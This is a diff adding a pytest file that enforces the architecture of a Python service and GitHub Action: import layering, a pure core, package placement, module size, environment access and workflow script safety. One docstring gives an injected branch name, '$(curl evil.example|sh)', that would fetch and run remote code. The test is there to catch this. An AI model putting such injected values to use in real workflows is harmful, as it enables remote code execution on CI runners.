@@ -1,0 +1,231 @@
+"""The shape of the code: who may import what, and how large things may grow."""
+
+import ast
+import re
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).parent.parent
+APP = sorted((ROOT / "app").rglob("*.py"))
+ACTION = sorted((ROOT / "action").rglob("*.py"))
+WORKFLOWS = [ROOT / "action.yml", *sorted((ROOT / ".github").rglob("*.yml"))]
+
+MAX_LINES = 250
+
+# The core has no clock, network, database, files, environment or randomness.
+PURE = {
+    "base64",
+    "collections",
+    "dataclasses",
+    "datetime",
+    "enum",
+    "functools",
+    "hashlib",
+    "itertools",
+    "json",
+    "math",
+    "operator",
+    "re",
+    "string",
+    "textwrap",
+    "typing",
+    "unicodedata",
+    "urllib.parse",
+}
+IMPURE_CALLS = {"open", "input", "print", "now", "utcnow", "today"}
+
+# Third-party packages that belong to one place each.
+HOMES = {
+    "flask": ("app/web",),
+    "flask_openapi3": ("app/web",),
+    "procrastinate": ("app/jobs",),
+    "github": ("app/github",),
+    "jwt": ("app/github",),
+    "psycopg": ("app/postgres", "app/store", "app/jobs"),
+    "psycopg_pool": ("app/postgres", "app/store", "app/jobs"),
+}
+
+# What the rooms below the entries may import of ours. Adapters never import each other.
+FLOORS = {
+    "app/core": ("app.core",),
+    "app/operations": ("app.core", "app.operations"),
+    "app/postgres": ("app.core", "app.operations", "app.postgres"),
+    "app/store": ("app.core", "app.operations", "app.store"),
+    "app/github": ("app.core", "app.operations", "app.github"),
+}
+
+ENVIRONMENT_READERS = {"app/bootstrap.py", "action/inputs.py"}
+VAGUE_NAMES = {"utils", "helpers", "common", "manager", "base", "misc"}
+
+
+def name_of(path: Path) -> str:
+    return path.relative_to(ROOT).as_posix()
+
+
+def of(*rooms: str) -> list[Path]:
+    return [path for path in APP + ACTION if name_of(path).startswith(tuple(rooms))]
+
+
+def tree_of(path: Path) -> ast.Module:
+    return ast.parse(path.read_text(), filename=str(path))
+
+
+def imports_of(path: Path) -> Iterator[str]:
+    """Every imported module by its full name; `from a import b` gives `a.b` too."""
+    for node in ast.walk(tree_of(path)):
+        if isinstance(node, ast.Import):
+            yield from (alias.name for alias in node.names)
+        elif isinstance(node, ast.ImportFrom):
+            assert node.level == 0, f"{name_of(path)} imports relatively"
+            assert node.module
+            yield node.module
+            yield from (f"{node.module}.{alias.name}" for alias in node.names)
+
+
+def is_within(module: str, packages: tuple[str, ...]) -> bool:
+    return any(module == package or module.startswith(f"{package}.") for package in packages)
+
+
+def parametrized(paths: list[Path]) -> pytest.MarkDecorator:
+    return pytest.mark.parametrize("path", paths, ids=[name_of(path) for path in paths])
+
+
+def test_there_is_code_to_look_at() -> None:
+    assert len(of("app/core/")) > 10
+    assert len(ACTION) > 10
+
+
+@parametrized(of(*(f"{room}/" for room in FLOORS)))
+def test_imports_run_one_way(path: Path) -> None:
+    [allowed] = [below for room, below in FLOORS.items() if name_of(path).startswith(f"{room}/")]
+
+    ours = {module for module in imports_of(path) if is_within(module, ("app", "action", "demo"))}
+
+    assert {module for module in ours if not is_within(module, allowed)} <= {"app"}
+
+
+@parametrized(of("app/core/"))
+def test_the_core_is_pure(path: Path) -> None:
+    foreign = {module for module in imports_of(path) if not is_within(module, ("app",))}
+    calls = {
+        node.func.attr if isinstance(node.func, ast.Attribute) else node.func.id
+        for node in ast.walk(tree_of(path))
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute | ast.Name)
+    }
+
+    assert {module for module in foreign if not is_within(module, tuple(PURE))} <= {"urllib"}
+    assert not calls & IMPURE_CALLS
+
+
+@parametrized(of("app/operations/"))
+def test_operations_know_no_technology(path: Path) -> None:
+    roots = {module.partition(".")[0] for module in imports_of(path)}
+
+    assert roots - sys.stdlib_module_names == roots & {"app"}
+
+
+@parametrized(APP)
+def test_a_third_party_package_stays_in_its_home(path: Path) -> None:
+    roots = {module.partition(".")[0] for module in imports_of(path)}
+
+    strays = {root for root in roots & HOMES.keys() if not name_of(path).startswith(HOMES[root])}
+
+    assert not strays
+
+
+@parametrized(APP)
+def test_the_service_never_imports_the_action_or_the_demo(path: Path) -> None:
+    assert not [name for name in imports_of(path) if is_within(name, ("action", "demo", "tests"))]
+
+
+@parametrized(ACTION)
+def test_the_action_needs_nothing_but_python(path: Path) -> None:
+    roots = {module.partition(".")[0] for module in imports_of(path)}
+
+    assert roots <= sys.stdlib_module_names | {"action"}
+
+
+@parametrized(ACTION)
+def test_the_action_reads_as_python_3_9(path: Path) -> None:
+    tree = ast.parse(path.read_text(), feature_version=(3, 9))
+
+    options = {
+        keyword.arg
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("dataclass", "zip")
+        for keyword in node.keywords
+    }
+    assert not options & {"slots", "kw_only", "strict"}
+
+
+@parametrized(APP + ACTION)
+def test_imports_stand_at_the_top(path: Path) -> None:
+    functions = [
+        node
+        for node in ast.walk(tree_of(path))
+        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)
+    ]
+
+    assert not [
+        node.lineno
+        for function in functions
+        for node in ast.walk(function)
+        if isinstance(node, ast.Import | ast.ImportFrom)
+    ]
+
+
+@parametrized([path for path in APP + ACTION if name_of(path) not in ENVIRONMENT_READERS])
+def test_the_environment_is_read_in_one_place(path: Path) -> None:
+    names = {
+        node.attr if isinstance(node, ast.Attribute) else node.id
+        for node in ast.walk(tree_of(path))
+        if isinstance(node, ast.Attribute | ast.Name)
+    }
+    reads = {"os.environ", "os.getenv", "os.environb"} & set(imports_of(path))
+    if "os" in imports_of(path):
+        reads |= {"environ", "getenv", "environb"} & names
+
+    assert not reads
+
+
+@parametrized(APP + ACTION)
+def test_a_module_stays_small_and_says_what_it_is(path: Path) -> None:
+    text = path.read_text()
+
+    assert len(text.splitlines()) <= MAX_LINES
+    assert ast.get_docstring(ast.parse(text))
+    assert path.stem not in VAGUE_NAMES
+
+
+def run_blocks(text: str) -> Iterator[str]:
+    """The scripts of every `run:` in a workflow or action, on one line or indented below it."""
+    lines = text.splitlines()
+    for number, line in enumerate(lines):
+        if not (found := re.match(r"( *)(- )?run:(.*)", line)):
+            continue
+        indent = len(found[1]) + len(found[2] or "")
+        below = []
+        for later in lines[number + 1 :]:
+            if later.strip() and len(later) - len(later.lstrip()) <= indent:
+                break
+            below.append(later)
+        yield "\n".join([found[3], *below])
+
+
+def test_run_blocks_are_found_in_both_forms() -> None:
+    text = "steps:\n  - run: one\n  - name: x\n    run: |\n      two\n\n      three\n    env: no"
+
+    assert [block.split() for block in run_blocks(text)] == [["one"], ["|", "two", "three"]]
+
+
+@parametrized(WORKFLOWS)
+def test_no_expression_is_pasted_into_a_script(path: Path) -> None:
+    """A branch may be called `$(curl evil.example|sh)`: expressions reach scripts as variables."""
+    assert not [block for block in run_blocks(path.read_text()) if "${{" in block]
+
+
+def test_the_action_itself_runs_a_script_of_ours() -> None:
+    assert list(run_blocks((ROOT / "action.yml").read_text()))
